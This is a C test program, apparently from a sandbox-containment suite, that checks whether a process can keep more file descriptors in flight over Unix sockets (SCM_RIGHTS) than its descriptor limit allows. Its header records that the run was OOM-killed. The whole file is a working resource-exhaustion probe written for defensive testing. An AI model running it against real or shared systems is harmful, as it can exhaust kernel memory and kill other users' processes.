/* class: resources
 * what: parks open files in flight on unix sockets (SCM_RIGHTS), past its descriptor limit (20000 at most)
 * reason: oom killed
 */
#include "attack.h"
#include <sys/socket.h>

int main(void)
{
    enum { BATCH = 100 };
    int sv[2], sent = 0, err = 0;
    long limit = param_num("limit_nofile", 1024);
    union {
        struct cmsghdr head;
        char room[CMSG_SPACE(BATCH * sizeof(int))];
    } control;
    while (sent < 20000) {
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, sv) < 0) {
            err = errno;
            break;
        }
        for (;;) {
            int fds[BATCH];
            char byte = 'x';
            struct iovec iov = { &byte, 1 };
            struct msghdr m = {
                .msg_iov = &iov, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control
            };
            control.head.cmsg_level = SOL_SOCKET;
            control.head.cmsg_type = 1;
            control.head.cmsg_len = CMSG_LEN(sizeof fds);
            for (int i = 0; i < BATCH; i++)
                fds[i] = sv[1];
            memcpy(CMSG_DATA(&control.head), fds, sizeof fds);
            if (sendmsg(sv[0], &m, MSG_DONTWAIT) < 0) {
                err = errno;
                break;
            }
            sent += BATCH;
            if (sent >= 20000)
                break;
        }
        if (err == ETOOMANYREFS)
            break;
    }
    /* the kernel allows as many in flight as may be open, and one message more */
    if (sent > limit + 3 * BATCH)
        escaped("%d descriptors in flight, the limit is %ld", sent, limit);
    contained("%d in flight, then %s", sent, errname(err));
}
